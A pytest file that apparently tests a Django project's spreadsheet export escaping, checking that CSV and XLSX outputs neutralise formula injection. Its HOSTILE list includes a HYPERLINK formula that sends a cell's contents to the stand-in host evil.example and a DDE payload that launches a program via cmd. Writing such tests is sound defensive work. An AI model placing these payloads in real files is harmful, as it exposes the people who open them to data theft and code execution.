import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from innspill.common.spreadsheet import csv_safe, xlsx_append

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_would_run_get_an_apostrophe(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Barnehage", "1-2 år", "", "e-post@example.org", 5, -5, None])
def test_csv_leaves_plain_text_and_numbers_alone(value):
    assert csv_safe(value) == value


def test_xlsx_keeps_the_text_but_never_a_formula():
    workbook = Workbook()
    xlsx_append(workbook.active, [*HOSTILE, "Vanlig", 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [c.value for c in row] == [*HOSTILE, "Vanlig", 3]
    assert [c.data_type for c in row] == ["s"] * (len(HOSTILE) + 1) + ["n"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_archive_and_api_csv_exports_neutralise_formulas(client, make_input):
    make_input(
        HOSTILE[0], theme="arbeid", kind="tiltak", year=2018, group_heading="=cmd|' /C calc'!A0"
    )
    archive = b"".join(client.get("/eksport.csv").streaming_content).decode()
    api = b"".join(client.get("/api/v1/inputs", {"format": "csv"}).streaming_content).decode()
    for body in (archive, api):
        rows = read_csv(body)
        assert len(rows) == 2
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
        assert "'" + HOSTILE[0] in rows[1] and "'=cmd|' /C calc'!A0" in rows[1]
